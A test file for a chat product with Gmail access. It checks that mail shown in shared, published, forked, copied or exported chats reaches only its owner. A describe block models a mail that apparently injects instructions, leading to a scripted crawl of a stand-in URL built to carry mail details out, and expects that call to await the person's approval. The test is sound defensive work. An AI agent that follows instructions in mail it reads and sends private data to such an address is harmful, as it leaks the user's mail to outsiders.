import { describe, expect, it } from "vitest";
import { updateChat } from "#shared/contracts/chat/chats.ts";
import { forkChat } from "#shared/contracts/chat/copies.ts";
import { copyPublicChat, getPublicChat } from "#shared/contracts/chat/sharing.ts";
import { decideToolCall } from "#shared/contracts/chat/tool-calls.ts";
import { findThread, withGmail } from "#test/support/gmail.ts";
import { readReply, startChat, startChatAndRead } from "#test/support/replies.ts";
import { messagesOf } from "#test/support/runs.ts";
import { share } from "#test/support/shared-chat.ts";
import { until } from "#test/support/until.ts";
import { type Person, signIn, visit, visitor } from "#test/support/worker.ts";

it("mail in a shared chat is shown to its person alone", async () => {
  const person = await withGmail();
  const thread = await findThread(person, "subject:berlin");
  const { chatId } = await startChatAndRead(person, `call gmailRead {"thread_id":"${thread}"}\nthen\nsay Read.`);
  const other = await signIn();
  await share(person, chatId, other.email, "viewer");
  const seen = async (who: Person) => JSON.stringify((await messagesOf(who, chatId)).at(-1));
  expect(await seen(person)).toContain("9:41 train");
  expect(await seen(other)).toContain("Read.");
  expect(await seen(other)).not.toContain("9:41 train");
});

it("mail in a shared chat is named to its person alone: not to members, on published pages, in copies or in files", async () => {
  const person = await withGmail();
  const thread = await findThread(person, "subject:berlin");
  const turn = await startChatAndRead(person, `call gmailRead {"thread_id":"${thread}"}\nthen\nsay Read [1].`);
  const { chatId: id, replyId: messageId } = turn;
  const [member, stranger] = [await signIn(), await signIn()];
  await share(person, id, member.email, "editor");
  await person.take(updateChat, { params: { id }, body: { public: true } });
  const fork = async (who: Person) => (await who.take(forkChat, { params: { id }, body: { messageId } })).chat.id;
  const copy = (await stranger.take(copyPublicChat, { params: { id }, body: {} })).chat.id;
  const fileOf = async (format: string) => (await member.fetch(`/api/chat/${id}/export?format=${format}`)).text();
  const visible = [
    await messagesOf(member, id),
    await readReply(member, turn),
    await messagesOf(member, await fork(member)),
    await fileOf("json"),
    await fileOf("markdown"),
    await (await visit(`/p/${id}`)).text(),
    await visitor().take(getPublicChat, { params: { id }, query: {} }),
    await messagesOf(stranger, copy),
  ].map((what) => JSON.stringify(what));
  const NAMES = /mail\.google\.com|Berlin in December/;
  for (const what of visible) {
    expect(what).toContain("Read [1].");
    expect(what).not.toMatch(NAMES);
  }
  const link = { url: `https://mail.google.com/mail/#all/${thread}`, title: "Berlin in December" };
  expect((await messagesOf(person, id)).at(-1)?.citations).toEqual([link]);
  expect((await messagesOf(person, await fork(person))).at(-1)?.citations).toEqual([link]);
  expect((await messagesOf(member, id)).at(-1)?.citations).toEqual([{ url: "", title: null }]);
});

describe("a mail that asks for what it may not have", () => {
  // As JSON may write it, so the person's own words do not name it.
  const crawl = (url: string) => `call exaCrawl ${JSON.stringify({ urls: [url] }).replaceAll("/", "\\/")}`;
  const SEARCH = 'call parallelWebSearch {"objective":"How do bridges stand?","search_queries":["stone bridges"]}';
  const LEAK = "https://notes.example/instructions?carry=9-41-train";

  async function lastCall(person: Person, chatId: string) {
    const reply = await until("the reply to wait or to end", async () => {
      const message = (await messagesOf(person, chatId)).at(-1);
      return message?.status === "waiting" || message?.status === "done" ? message : null;
    });
    return reply.tool_calls.at(-1);
  }

  it("a mail that asks for what it may not have gets no page read under an address that carries mail away, until its person allows it", async () => {
    const person = await withGmail();
    const thread = await findThread(person, "account notice");
    const { chatId } = await startChat(person, `call gmailRead {"thread_id":"${thread}"}\nthen\n${crawl(LEAK)}\nthen\nsay Done.`);
    const call = await lastCall(person, chatId);
    expect(call).toMatchObject({ tool: "exaCrawl", status: "waiting", input: { urls: [LEAK] }, sources: [] });
    await person.take(decideToolCall, { params: { id: chatId, callId: call?.id ?? "" }, body: { decision: "discard" } });
  });

  it("a mail that asks for what it may not have is not asked about where pages that a search found or the person named are read", async () => {
    const person = await withGmail();
    const thread = await findThread(person, "subject:berlin");
    const read = `call gmailRead {"thread_id":"${thread}"}\nthen\n`;
    const named = 'call exaCrawl {"urls":["https://sqlite.example/wal"]}';
    const turns = [
      `${read}${SEARCH}\nthen\n${crawl("https://rivers.example/bridges")}\nthen\nsay Done.`,
      `${read}${named}\nthen\nsay Done.`,
    ];
    for (const content of turns) {
      const { chatId } = await startChat(person, content);
      expect(await lastCall(person, chatId)).toMatchObject({ tool: "exaCrawl", status: "done" });
    }
  });
});
